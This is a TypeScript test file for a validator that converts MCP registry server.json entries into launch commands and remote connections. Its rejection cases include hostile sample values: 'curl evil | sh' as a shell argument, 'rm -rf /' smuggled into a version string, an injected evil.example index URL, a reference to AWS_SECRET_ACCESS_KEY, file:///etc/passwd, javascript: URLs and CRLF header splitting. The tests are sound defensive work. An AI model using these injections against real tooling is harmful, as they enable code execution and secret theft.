import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { entriesOfServerJson } from '../../../src/config/registry/read-server-json.ts';
import type { RegistryEntry, RegistryReading } from '../../../src/config/registry/registry-entry.ts';
import { checkedDownload, registryLaunch, registryReach } from '../../../src/config/registry/registry-reach.ts';
import type { HttpReach, StdioReach } from '../../../src/config/server-entry.ts';
import type { Json } from '../../../src/values/json.ts';

const SECRET = 'sk-very-secret-value';
const stdio = { type: 'stdio' };
const npm = { registryType: 'npm', identifier: '@example/weather', version: '1.2.3', transport: stdio };

const documentWith = (changes: object): Json =>
  ({ name: 'io.github.example/weather', description: 'Tells the weather', version: '1.2.3', ...changes }) as Json;
const read = (changes: object): RegistryReading => entriesOfServerJson(documentWith(changes));
const withPackage = (changes: object): RegistryReading => read({ packages: [{ ...npm, ...changes }] });
const problemsOf = ({ problems }: RegistryReading): string[] =>
  problems.map(({ severity, pointer }) => `${severity} ${pointer}`);

function only(reading: RegistryReading): RegistryEntry {
  expect(reading.problems.filter(({ severity }) => severity === 'error')).toEqual([]);
  expect(reading.entries).toHaveLength(1);
  return reading.entries[0]!;
}

const lineOf = (reading: RegistryReading, values: Record<string, Json> = {}): string => {
  const { command, args = [] } = registryReach(only(reading), values) as StdioReach;
  return [command, ...args].join(' ');
};

describe('a package of a document', () => {
  it.each<[string, object, string]>([
    ['npm', {}, 'npx -y @example/weather@1.2.3'],
    ['npm with bun', { runtimeHint: 'bunx' }, 'bunx @example/weather@1.2.3'],
    [
      'npm with what is there anyway',
      { runtimeArguments: [{ type: 'positional', value: '-y' }] },
      'npx -y @example/weather@1.2.3',
    ],
    ['npm from its registry', { registryBaseUrl: 'https://registry.npmjs.org' }, 'npx -y @example/weather@1.2.3'],
    ['pypi', { registryType: 'pypi', identifier: 'weather-mcp', version: '0.5.0' }, 'uvx weather-mcp@0.5.0'],
    [
      'pypi with pipx',
      { registryType: 'pypi', identifier: 'weather', runtimeHint: 'pipx' },
      'pipx run --spec weather==1.2.3 weather',
    ],
    [
      'oci',
      { registryType: 'oci', identifier: 'ghcr.io/example/weather:1.2.3', version: undefined },
      'docker run -i --rm ghcr.io/example/weather:1.2.3',
    ],
    [
      'oci with its version beside it',
      { registryType: 'oci', identifier: 'example/weather' },
      'docker run -i --rm example/weather:1.2.3',
    ],
    [
      'oci by digest',
      {
        registryType: 'oci',
        identifier: `localhost:5000/w@sha256:${'a'.repeat(64)}`,
        version: undefined,
        runtimeHint: 'podman',
      },
      `podman run -i --rm localhost:5000/w@sha256:${'a'.repeat(64)}`,
    ],
    ['nuget', { registryType: 'nuget', identifier: 'Example.Weather' }, 'dnx Example.Weather@1.2.3 --yes'],
    [
      'nuget with arguments',
      {
        registryType: 'nuget',
        identifier: 'Example.Weather',
        packageArguments: [{ type: 'positional', value: 'mcp' }],
      },
      'dnx Example.Weather@1.2.3 --yes -- mcp',
    ],
  ])('%s is a command with its version', (_, changes, line) => {
    expect(lineOf(withPackage(changes))).toBe(line);
  });

  it('is an entry that says where it came from', () => {
    const { entry } = only(
      entriesOfServerJson(documentWith({ title: 'Weather', packages: [npm] }), { file: '/x/server.json' }),
    );
    expect(entry).toMatchObject({
      name: 'weather',
      origin: { format: 'registry', scope: 'user', file: '/x/server.json', pointer: '/packages/0' },
      other: { registryName: 'io.github.example/weather', title: 'Weather', version: '1.2.3' },
    });
  });

  it.each<[string, object, string]>([
    ['of an unknown registry', { registryType: 'gems' }, 'error /packages/0/registryType'],
    ['of cargo', { registryType: 'cargo' }, 'error /packages/0/registryType'],
    ['of a registry named like a method', { registryType: 'toString' }, 'error /packages/0/registryType'],
    ['without version', { version: undefined }, 'error /packages/0/version'],
    ['of the latest version', { version: 'latest' }, 'error /packages/0/version'],
    ['of a range', { version: '^1.2.3' }, 'error /packages/0/version'],
    ['of a wildcard', { version: '1.x' }, 'error /packages/0/version'],
    ['of a tag', { version: 'next' }, 'error /packages/0/version'],
    ['of a version with a command', { version: '1.0.0; rm -rf /' }, 'error /packages/0/version'],
    ['with a name that is an option', { identifier: '--call=evil' }, 'error /packages/0/identifier'],
    ['with a name that is a path', { identifier: '../evil' }, 'error /packages/0/identifier'],
    ['with a name that is an address', { identifier: 'https://evil.example/x.tgz' }, 'error /packages/0/identifier'],
    [
      'of an image without a tag',
      { registryType: 'oci', identifier: 'a/b', version: undefined },
      'error /packages/0/version',
    ],
    [
      'of an image that moves',
      { registryType: 'oci', identifier: 'a/b:latest', version: undefined },
      'error /packages/0/version',
    ],
    ['of an image with two versions', { registryType: 'oci', identifier: 'a/b:1.0.0' }, 'error /packages/0/version'],
    [
      'of another registry of the kind',
      { registryBaseUrl: 'https://registry.evil.example' },
      'error /packages/0/registryBaseUrl',
    ],
    ['for another runner', { runtimeHint: 'sh' }, 'error /packages/0/runtimeHint'],
    ['for a runner with a path', { runtimeHint: '/tmp/npx' }, 'error /packages/0/runtimeHint'],
    ['with an unknown transport', { transport: { type: 'websocket' } }, 'error /packages/0/transport/type'],
    ['with no transport', { transport: undefined }, 'error /packages/0/transport/type'],
    ['with members of an older form', { registry_type: 'npm' }, 'error /packages/0/registry_type'],
    [
      'with a bad variable',
      { environmentVariables: [{ name: 'A=B' }] },
      'error /packages/0/environmentVariables/0/name',
    ],
    ['with variables that are no list', { environmentVariables: {} }, 'error /packages/0/environmentVariables'],
    ['with arguments that are no list', { packageArguments: 'x' }, 'error /packages/0/packageArguments'],
    ['with an argument of no kind', { packageArguments: [{ value: 'x' }] }, 'error /packages/0/packageArguments/0'],
    [
      'with a positional argument without value',
      { packageArguments: [{ type: 'positional' }] },
      'error /packages/0/packageArguments/0',
    ],
    [
      'with a NUL in an argument',
      { packageArguments: [{ type: 'positional', value: 'a\0' }] },
      'error /packages/0/packageArguments/0',
    ],
    [
      'with an option that is a command',
      { packageArguments: [{ type: 'named', name: '--x; rm' }] },
      'error /packages/0/packageArguments/0',
    ],
    [
      'with one name for two values',
      { environmentVariables: [{ name: 'A' }, { name: 'A' }] },
      'error /packages/0/environmentVariables/1',
    ],
    [
      'with choices that are no texts',
      { environmentVariables: [{ name: 'A', choices: [1] }] },
      'error /packages/0/environmentVariables/0/choices',
    ],
  ])('%s is not offered, and the problem says where', (_, changes, problem) => {
    const reading = withPackage(changes);
    expect(reading.entries).toEqual([]);
    expect(problemsOf(reading)).toContain(problem);
  });

  it.each<[string, object, object]>([
    ['a shell', {}, { type: 'named', name: '-c', value: 'curl evil | sh' }],
    ['a shell by its long name', {}, { type: 'named', name: '--call', value: 'evil' }],
    ['a shell as a positional argument', {}, { type: 'positional', value: '--call=evil' }],
    ['another package', {}, { type: 'positional', value: 'evil' }],
    ['another package behind an option', {}, { type: 'named', name: '-q', value: 'evil' }],
    ['another package of the user', {}, { type: 'positional', valueHint: 'what' }],
    ['a shell by an abbreviation', {}, { type: 'named', name: '--cal', value: 'evil' }],
    ['a shell by letters at once', {}, { type: 'named', name: '-yc' }],
    ['more packages', {}, { type: 'named', name: '--package', value: 'evil' }],
    [
      'another source',
      { registryType: 'pypi', identifier: 'w' },
      { type: 'named', name: '--index-url', value: 'https://evil.example' },
    ],
    ['another image', { registryType: 'oci', identifier: 'a/b' }, { type: 'named', name: '-q', value: 'evil/image' }],
    [
      'an option that takes the image for its value',
      { registryType: 'oci', identifier: 'a/b' },
      { type: 'named', name: '--env' },
    ],
    [
      'letters that take the image for their value',
      { registryType: 'oci', identifier: 'a/b' },
      { type: 'named', name: '-qe' },
    ],
    [
      'another program in the image',
      { registryType: 'oci', identifier: 'a/b' },
      { type: 'named', name: '--entrypoint', value: 'sh' },
    ],
    ['the end of the options', { registryType: 'oci', identifier: 'a/b' }, { type: 'positional', value: '--' }],
  ])('whose runner would get %s is not offered', (_, changes, argument) => {
    const reading = withPackage({ ...changes, runtimeArguments: [argument] });
    expect(reading.entries).toEqual([]);
    expect(problemsOf(reading)).toContain('error /packages/0/runtimeArguments');
  });

  it('has inputs for what the document leaves open', () => {
    const { inputs, entry } = only(
      withPackage({
        environmentVariables: [
          { name: 'API_KEY', description: 'The key', isRequired: true, isSecret: true },
          { name: 'UNIT', default: 'celsius', choices: ['celsius', 'kelvin'] },
          { name: 'FIXED', value: 'yes' },
          { name: 'RETRIES', format: 'number', placeholder: '3' },
          { name: 'VERBOSE', format: 'boolean' },
          { name: 'DATA', format: 'filepath' },
        ],
      }),
    );
    expect(inputs).toEqual([
      { id: 'API_KEY', type: 'text', title: 'API_KEY', description: 'The key', isSecret: true, isRequired: true },
      {
        id: 'UNIT',
        type: 'choice',
        title: 'UNIT',
        isRequired: false,
        options: [
          { label: 'celsius', value: 'celsius' },
          { label: 'kelvin', value: 'kelvin' },
        ],
        default: 'celsius',
      },
      { id: 'RETRIES', type: 'number', title: 'RETRIES', isRequired: false, other: { placeholder: '3' } },
      { id: 'VERBOSE', type: 'boolean', title: 'VERBOSE', isRequired: false },
      { id: 'DATA', type: 'text', title: 'DATA', isRequired: false },
    ]);
    expect((entry.reach as StdioReach).env).toMatchObject({ API_KEY: '${input:API_KEY}', FIXED: 'yes' });
  });

  it('is started with the values that were given, defaults, and without what is not set', () => {
    const way = only(
      withPackage({
        environmentVariables: [
          { name: 'API_KEY', isRequired: true, isSecret: true },
          { name: 'UNIT', default: 'celsius' },
          { name: 'NOTE' },
        ],
        packageArguments: [
          { type: 'positional', value: 'serve' },
          { type: 'named', name: '--verbose' },
          { type: 'named', name: '--port', format: 'number' },
          { type: 'named', name: '-u', valueHint: 'user' },
          { type: 'named', name: '--dir', isRepeated: true, isRequired: true },
          { type: 'positional', valueHint: 'more', isRepeated: true },
        ],
      }),
    );
    const reach = registryReach(way, { API_KEY: SECRET, '--dir': ['/a', '/b c'], '--port': 8080 }) as StdioReach;
    expect(reach.args).toEqual([
      '-y',
      '@example/weather@1.2.3',
      'serve',
      '--verbose',
      '--port=8080',
      '--dir=/a',
      '--dir=/b c',
    ]);
    expect(reach.env).toEqual({ API_KEY: SECRET, UNIT: 'celsius' });
    const more = registryReach(way, { API_KEY: SECRET, '--dir': '/a', '-u': 'me', more: ['x', 'y'] }) as StdioReach;
    expect(more.args?.slice(2)).toEqual(['serve', '--verbose', '-u', 'me', '--dir=/a', 'x', 'y']);
    const start = (): unknown => registryReach(way, { NOTE: SECRET });
    expect(start).toThrow(/it needs "API_KEY", "--dir"/);
    expect(start).not.toThrow(new RegExp(SECRET));
    expect(() => registryReach(way, { API_KEY: 'a\0', '--dir': 'x' })).toThrow(/NUL/);
  });

  it('fills variables into values, each repetition with its own, and does not look for variables in values', () => {
    const reading = withPackage({
      registryType: 'oci',
      identifier: 'example/files',
      runtimeArguments: [
        {
          type: 'named',
          name: '--mount',
          value: 'type=bind,src={source},dst={target},{unknown}',
          isRepeated: true,
          variables: { source: { isRequired: true, format: 'filepath' }, target: { default: '/project' } },
        },
      ],
      environmentVariables: [
        { name: 'TOKEN', isSecret: true },
        { name: 'AUTH', value: 'Bearer {token}', variables: { token: { isSecret: true } } },
      ],
    });
    const values = { '--mount.source': ['/a', '/b'], '--mount.target': ['/x', '${input:TOKEN}'], TOKEN: SECRET };
    const reach = registryReach(only(reading), values) as StdioReach;
    expect([reach.command, ...(reach.args ?? [])].join(' ')).toBe(
      'docker run -i --rm -e TOKEN --mount=type=bind,src=/a,dst=/x,{unknown} --mount=type=bind,src=/b,dst=${input:TOKEN},{unknown} example/files:1.2.3',
    );
    expect(reach.env).toEqual({ TOKEN: SECRET });
    expect(problemsOf(reading)).toEqual(['warning /packages/0/runtimeArguments']);
    const one = registryReach(only(reading), { '--mount.source': '/a', 'AUTH.token': 't' }) as StdioReach;
    expect(one.args).toContain('--mount=type=bind,src=/a,dst=/project,{unknown}');
    expect(one.env).toEqual({ AUTH: 'Bearer t' });
  });

  it('keeps secrets off the command line of a container, and warns where a document puts them on one', () => {
    const reading = withPackage({
      registryType: 'oci',
      identifier: 'a/b',
      environmentVariables: [{ name: 'TOKEN', isSecret: true }],
    });
    const reach = registryReach(only(reading), { TOKEN: SECRET }) as StdioReach;
    expect(reach.args).not.toContain(SECRET);
    expect(reach.args?.slice(3, 5)).toEqual(['-e', 'TOKEN']);
    const other = withPackage({ packageArguments: [{ type: 'named', name: '--key', isSecret: true }] });
    expect(problemsOf(other)).toEqual(['warning /packages/0/packageArguments/0']);
  });

  it('that listens at an address has the command that has to run before', () => {
    const reading = withPackage({
      packageArguments: [
        { type: 'named', name: '--port', default: '3000' },
        { type: 'positional', valueHint: 'path', value: 'mcp' },
      ],
      environmentVariables: [{ name: 'HOST', default: 'localhost' }],
      transport: { type: 'streamable-http', url: 'http://{HOST}:{--port}/{path}' },
    });
    const way = only(reading);
    expect(registryReach(way, {})).toMatchObject({ type: 'http', url: 'http://localhost:3000/mcp' });
    expect(registryLaunch(way, { '--port': 4000 })?.args).toEqual([
      '-y',
      '@example/weather@1.2.3',
      '--port=4000',
      'mcp',
    ]);
    expect(problemsOf(reading)).toEqual(['warning /packages/0']);
    expect(registryLaunch(only(withPackage({})), {})).toBeUndefined();
  });
});

describe('a fixed text with a reference in it', () => {
  const secret = { name: 'TOKEN', isSecret: true };
  const sly = 'x${input:TOKEN}';

  it.each<[string, object]>([
    ['an argument', { packageArguments: [{ type: 'positional', value: sly }] }],
    ['an option', { packageArguments: [{ type: 'named', name: '--x', value: sly }] }],
    [
      'a variable of an option',
      { packageArguments: [{ type: 'named', name: '--x', value: '{y}', variables: { y: { value: sly } } }] },
    ],
    ['an address', { transport: { type: 'sse', url: `https://a.example/${sly}` } }],
    [
      'a reference in two parts',
      {
        packageArguments: [
          { type: 'named', name: '--x', value: '{y}{z}', variables: { y: { value: '$' }, z: { value: '{env:HOME}' } } },
        ],
      },
    ],
  ])('is refused: %s', (_, changes) => {
    const reading = withPackage({ environmentVariables: [secret], ...changes });
    expect(reading.entries).toEqual([]);
    expect(reading.problems[0]?.message).toContain('would be replaced');
  });

  it('is refused in the address and the headers of a remote, also to the environment', () => {
    for (const changes of [
      { headers: [{ name: 'X', value: '${env:AWS_SECRET_ACCESS_KEY}' }] },
      { url: 'https://a.example/${HOME}' },
      { url: `https://a.example/${sly}` },
      { headers: [secret, { name: 'X', value: sly }] },
    ])
      expect(read({ remotes: [{ type: 'sse', url: 'https://a.example', ...changes }] }).entries).toEqual([]);
  });
});

describe('a remote of a document', () => {
  const remote = {
    type: 'streamable-http',
    url: 'https://{tenant}.example.com/{region}/mcp',
    variables: { tenant: { isRequired: true }, region: { default: 'eu', choices: ['eu', 'us'] } },
    headers: [
      { name: 'Authorization', value: 'Bearer {token}', variables: { token: { isSecret: true, isRequired: true } } },
      { name: 'X-Region', default: 'eu' },
      { name: 'X-Note' },
    ],
  };

  it('is an address with headers', () => {
    const way = only(read({ remotes: [remote] }));
    expect(way.inputs.map(({ id }) => id)).toEqual(['tenant', 'region', 'Authorization.token', 'X-Region', 'X-Note']);
    expect(registryReach(way, { tenant: 'acme', 'Authorization.token': SECRET })).toEqual({
      type: 'http',
      url: 'https://acme.example.com/eu/mcp',
      headers: { Authorization: `Bearer ${SECRET}`, 'X-Region': 'eu' },
    });
    expect(registryReach(only(read({ remotes: [{ type: 'sse', url: 'https://a.example/sse' }] })), {})).toMatchObject({
      type: 'sse',
    });
  });

  it.each(['evil.example/', 'a@evil.example#', 'a\\b', 'a?b', 'x y'])(
    'stays on its host with the value %j',
    (tenant) => {
      const way = only(read({ remotes: [remote] }));
      expect(() => registryReach(way, { tenant, 'Authorization.token': 't' })).toThrow(/stands in the host/);
    },
  );

  it('has values in its path encoded, and none with line ends in headers', () => {
    const way = only(read({ remotes: [remote] }));
    const reach = registryReach(way, { tenant: 'a', region: '../x?y=1#z', 'Authorization.token': 't' }) as HttpReach;
    expect(reach.url).toBe('https://a.example.com/..%2Fx%3Fy%3D1%23z/mcp');
    const split = (): unknown => registryReach(way, { tenant: 'a', 'Authorization.token': `${SECRET}\r\nX-Evil: 1` });
    expect(split).toThrow(/Authorization cannot be sent/);
    expect(split).not.toThrow(new RegExp(SECRET));
  });

  it.each<[string, object, string]>([
    ['no address', { url: undefined }, 'error /remotes/0/url'],
    ['an address that is no address', { url: 'file:///etc/passwd' }, 'error /remotes/0/url'],
    ['an address that is a script', { url: 'javascript:alert(1)' }, 'error /remotes/0/url'],
    ['no transport', { type: undefined }, 'error /remotes/0/type'],
    ['stdio', { type: 'stdio' }, 'error /remotes/0/type'],
    ['a header that is none', { headers: [{ name: 'A: b\r\n' }] }, 'error /remotes/0/headers/0/name'],
    [
      'a secret in its address',
      { variables: { ...remote.variables, region: { isSecret: true } } },
      'warning /remotes/0/url',
    ],
  ])('with %s has a problem', (_, changes, problem) => {
    expect(problemsOf(read({ remotes: [{ ...remote, ...changes }] }))).toContain(problem);
  });

  it('is encrypted, or on this machine', () => {
    const reach = (url: string): unknown => registryReach(only(read({ remotes: [{ type: 'sse', url }] })), {});
    expect(() => reach('http://a.example/sse')).toThrow(/not encrypted/);
    expect(reach('http://127.0.0.1:8080/sse')).toMatchObject({ url: 'http://127.0.0.1:8080/sse' });
    expect(() => reach('http://{x}/sse')).toThrow();
  });
});

describe('a bundle of a document', () => {
  const bytes = Buffer.from('the bytes of a bundle');
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  const bundle = {
    registryType: 'mcpb',
    identifier: 'https://github.com/e/w/releases/download/v1/w.mcpb',
    fileSha256: sha256,
    version: '1.0.0',
    transport: stdio,
  };

  it('is offered with its hash, which its bytes have to have', () => {
    const { bundles, entries, problems } = read({ packages: [bundle] });
    expect([entries, problems]).toEqual([[], []]);
    expect(bundles).toEqual([{ url: bundle.identifier, sha256, version: '1.0.0', pointer: '/packages/0' }]);
    expect(checkedDownload(bytes, bundles[0]!)).toBe(bytes);
    expect(() => checkedDownload(Buffer.from('others'), bundles[0]!)).toThrow(/is not the one that the registry names/);
  });

  it.each<[string, object, string]>([
    ['a hash', { fileSha256: undefined }, 'error /packages/0/fileSha256'],
    ['a hash that is one', { fileSha256: 'abc' }, 'error /packages/0/fileSha256'],
    ['an encrypted address', { identifier: 'http://github.com/w.mcpb' }, 'error /packages/0/identifier'],
    ['an address', { identifier: 'w' }, 'error /packages/0/identifier'],
  ])('without %s is not offered', (_, changes, problem) => {
    const reading = read({ packages: [{ ...bundle, ...changes }] });
    expect(reading.bundles).toEqual([]);
    expect(problemsOf(reading)).toContain(problem);
  });
});

describe('a document', () => {
  it('gives every way in its order, and a bad one takes nothing from the others', () => {
    const { entries, problems } = read({
      packages: [{ ...npm, version: 'latest' }, npm, { ...npm, registryType: 'pypi', identifier: 'weather' }, 7],
      remotes: [{ type: 'streamable-http', url: 'https://a.example/mcp' }],
    });
    expect(entries.map(({ kind, entry }) => [kind, entry.origin.pointer])).toEqual([
      ['npm', '/packages/1'],
      ['pypi', '/packages/2'],
      ['remote', '/remotes/0'],
    ]);
    expect(problems).toHaveLength(2);
  });

  it('may be wrapped as the interface of the registry has it, with its status', () => {
    const reading = entriesOfServerJson({
      server: documentWith({ packages: [npm] }),
      _meta: { 'io.modelcontextprotocol.registry/official': { status: 'deprecated' } },
    } as Json);
    expect(reading.entries[0]?.entry.origin.pointer).toBe('/server/packages/0');
    expect(reading.problems).toMatchObject([{ severity: 'warning', message: expect.stringContaining('deprecated') }]);
  });

  it.each<[string, Json]>([
    ['nothing', null],
    ['a list', []],
    ['a text', 'x'],
    ['no name', {}],
    ['a name without its namespace', { name: 'weather' }],
    ['a name with unseen characters', { name: 'a/\u202Eb' }],
    ['no way', documentWith({})],
    ['packages that are no list', documentWith({ packages: {} })],
    ['too many packages', documentWith({ packages: Array.from({ length: 51 }, () => npm) })],
  ])('with %s has a problem and no entry', (_, document) => {
    const { entries, problems } = entriesOfServerJson(document);
    expect(entries).toEqual([]);
    expect(problems.some(({ severity }) => severity === 'error')).toBe(true);
    for (const { message } of problems) expect(message).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });

  it('with thousands of faults has a list of them that ends', () => {
    const packages = Array.from({ length: 50 }, () => ({
      ...npm,
      environmentVariables: Array.from({ length: 300 }, () => ({ name: 'A', format: 'x' })),
    }));
    expect(read({ packages }).problems.length).toBeLessThanOrEqual(200);
  });
});
